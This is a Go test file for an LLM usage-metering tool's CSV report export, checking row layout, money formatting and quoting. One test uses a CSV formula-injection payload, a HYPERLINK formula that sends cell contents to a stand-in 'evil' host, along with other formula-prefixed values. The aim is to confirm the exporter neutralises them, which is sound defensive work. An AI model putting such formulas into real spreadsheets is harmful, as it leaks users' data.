package jobs_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"llmmeter/jobs"
)

// TestReportCSV: one row per entity, a user's name and email beside its
// id (empty for a user the store no longer has, and on other rows), the previous period and the change
// beside the system's own figures (no row with an empty id), exact money,
// and an error row's sample message quoted as CSV needs.
func TestReportCSV(t *testing.T) {
	rep := jobs.Report{Kind: "daily", PeriodKey: "2024-01-15", Body: map[string]any{
		"totals":   map[string]any{"requests": int64(10), "successful": int64(9), "failed": int64(1), "totalTokens": int64(1500), "costNanoUsd": int64(1_000_000_001)},
		"previous": map[string]any{"requests": int64(8), "successful": int64(8), "failed": int64(0), "totalTokens": int64(1000), "costNanoUsd": int64(7)},
		"change":   map[string]any{"requests": 0.25, "totalTokens": 0.5, "costNanoUsd": nil},
		"byUser": []map[string]any{
			{"userId": "u_0123456789abcdef", "userName": "Ann, \"A\" Lee", "userEmail": "ann@example.com", "requests": int64(10), "successful": int64(9), "failed": int64(1), "totalTokens": int64(1500), "costNanoUsd": int64(1_000_000_001)},
			{"userId": "u_gone", "userName": "", "userEmail": "", "requests": int64(1), "successful": int64(1), "failed": int64(0), "totalTokens": int64(3), "costNanoUsd": int64(5)},
		},
		"byModel": []any{
			map[string]any{"model": "openai/gpt-4o", "requests": int64(10), "successful": int64(9), "failed": int64(1), "totalTokens": int64(1500), "costNanoUsd": int64(1_000_000_001)},
		},
		"topErrors": []map[string]any{{"errorType": "upstream_error", "statusCode": 502, "count": int64(1), "sample": "bad, \"gateway\"\nline 2"}},
	}}
	_, recs := exportCSV(t, rep)
	want := [][]string{
		jobs.ReportCSVColumns,
		{"system", "all", "", "", "2024-01-15", "10", "9", "1", "1500", "1.000000001", "8", "1000", "0.000000007", "0.25", "", ""},
		{"user", "u_0123456789abcdef", "Ann, \"A\" Lee", "ann@example.com", "2024-01-15", "10", "9", "1", "1500", "1.000000001", "", "", "", "", "", ""},
		{"user", "u_gone", "", "", "2024-01-15", "1", "1", "0", "3", "0.000000005", "", "", "", "", "", ""},
		{"model", "openai/gpt-4o", "", "", "2024-01-15", "10", "9", "1", "1500", "1.000000001", "", "", "", "", "", ""},
		{"error", "upstream_error 502", "", "", "2024-01-15", "1", "", "1", "", "", "", "", "", "", "", "bad, \"gateway\"\nline 2"},
	}
	if len(recs) != len(want) {
		t.Fatalf("%d rows: %q", len(recs), recs)
	}
	for i := range want {
		for j := range want[i] {
			if recs[i][j] != want[i][j] {
				t.Errorf("row %d col %s = %q, want %q", i, jobs.ReportCSVColumns[j], recs[i][j], want[i][j])
			}
		}
		if len(recs[i]) > 1 && recs[i][1] == "" {
			t.Errorf("row %d has no id", i)
		}
	}
}

// TestReportCSVFormulaCells: a user's name and email, a model id and an
// error's type and message come from callers; one beginning with = + - @
// tab or CR gets a leading ', so a spreadsheet shows it instead of running
// it, while the numbers stay as they are.
func TestReportCSVFormulaCells(t *testing.T) {
	hostile := `=HYPERLINK("http://evil/?"&A1,"x")`
	rep := jobs.Report{Kind: "daily", PeriodKey: "2024-01-15", Body: map[string]any{
		"byUser": []map[string]any{
			{"userId": "u_0123456789abcdef", "userName": hostile, "userEmail": "@evil.example", "requests": int64(2), "successful": int64(2), "failed": int64(0), "totalTokens": int64(30), "costNanoUsd": int64(5)},
		},
		"byModel":   []map[string]any{{"model": "+evil/model", "requests": int64(2), "successful": int64(2), "failed": int64(0), "totalTokens": int64(30), "costNanoUsd": int64(5)}},
		"topErrors": []map[string]any{{"errorType": "-x", "statusCode": 502, "count": int64(1), "sample": "\t=1+1"}},
	}}
	raw, recs := exportCSV(t, rep)
	// Quoted as CSV quotes it, with the ' inside the quotes.
	if want := `user,u_0123456789abcdef,"'=HYPERLINK(""http://evil/?""&A1,""x"")",'@evil.example,2024-01-15,2,2,0,30,0.000000005,`; !strings.Contains(raw, want) {
		t.Errorf("CSV lacks %s:\n%s", want, raw)
	}
	want := [][]string{
		jobs.ReportCSVColumns,
		{"user", "u_0123456789abcdef", "'" + hostile, "'@evil.example", "2024-01-15", "2", "2", "0", "30", "0.000000005", "", "", "", "", "", ""},
		{"model", "'+evil/model", "", "", "2024-01-15", "2", "2", "0", "30", "0.000000005", "", "", "", "", "", ""},
		{"error", "'-x 502", "", "", "2024-01-15", "1", "", "1", "", "", "", "", "", "", "", "'\t=1+1"},
	}
	if fmt.Sprintf("%q", recs) != fmt.Sprintf("%q", want) {
		t.Errorf("got  %q\nwant %q", recs, want)
	}
}

// TestReportCSVRestRows: the users and models past a report's top come out
// as one row each, after the section they complete, id "<n> more".
func TestReportCSVRestRows(t *testing.T) {
	row := func(n int64) map[string]any {
		return map[string]any{"requests": n, "successful": n, "failed": int64(0), "totalTokens": 10 * n, "costNanoUsd": 1000 * n}
	}
	rest := row(3)
	rest["count"] = float64(3) // as a store returns it
	u := row(1)
	u["userId"] = "u_1"
	m := row(4)
	m["model"] = "a/b"
	mrest := row(0)
	mrest["count"] = 2
	rep := jobs.Report{Kind: "daily", PeriodKey: "2024-01-15", Body: map[string]any{
		"byUser": []any{u}, "byUserRest": rest, "byModel": []any{m}, "byModelRest": mrest,
	}}
	_, recs := exportCSV(t, rep)
	var got [][]string
	for _, r := range recs[1:] {
		got = append(got, r[:10])
	}
	want := [][]string{
		{"user", "u_1", "", "", "2024-01-15", "1", "1", "0", "10", "0.000001000"},
		{"user_rest", "3 more", "", "", "2024-01-15", "3", "3", "0", "30", "0.000003000"},
		{"model", "a/b", "", "", "2024-01-15", "4", "4", "0", "40", "0.000004000"},
		{"model_rest", "2 more", "", "", "2024-01-15", "0", "0", "0", "0", "0.000000000"},
	}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Fatalf("rows\n%q\nwant\n%q", got, want)
	}
}

// exportCSV is rep's CSV as written and as read back.
func exportCSV(t *testing.T, rep jobs.Report) (string, [][]string) {
	t.Helper()
	var buf bytes.Buffer
	if err := jobs.ExportCSV(&buf, rep); err != nil {
		t.Fatal(err)
	}
	raw := buf.String()
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return raw, recs
}
